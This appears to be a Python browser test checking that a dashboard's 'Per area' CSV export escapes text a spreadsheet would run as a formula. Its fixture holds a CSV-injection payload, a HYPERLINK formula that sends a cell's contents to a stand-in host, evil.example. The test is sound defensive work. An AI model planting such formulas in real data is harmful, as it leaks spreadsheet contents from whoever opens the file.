"""The dashboard's CSV buttons in a real browser: a table's text that a spreadsheet would
run as a formula is written as text, as the server's own CSV exports do
(``jitstock/server/csvcells.py``); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.server.web.conftest import Plant, open_page
from tests.waits import BROWSER_WAIT_MS

EVIL_AREA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_kpi_area_csv_escapes_formula_text(plant: Plant, browser) -> None:
    """Found from the outside: an area named like a formula (set by a manager, or by a
    CSV import) came out of the "Per area" CSV button as a live formula."""
    r = plant.api("PATCH", "/api/v1/bins/B1", json={"area": EVIL_AREA})
    assert r.status_code == 200, r.text
    page = open_page(browser, plant, path="/#/kpis")
    try:
        page.locator("#kpi-areas table td", has_text="HYPERLINK").first.wait_for(
            timeout=BROWSER_WAIT_MS
        )
        with page.expect_download(timeout=BROWSER_WAIT_MS) as dl:
            page.click('button.csv[data-csv="kpi-areas"]')
        text = Path(dl.value.path()).read_text(encoding="utf-8")
    finally:
        page.context.close()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "Area"
    by_area = {row[0]: row for row in rows[1:]}
    assert "'" + EVIL_AREA in by_area, rows
    assert EVIL_AREA not in by_area
    for row in rows[1:]:
        for cell in row[1:]:  # counts and rates are written as they are shown
            assert not cell.startswith("'"), row
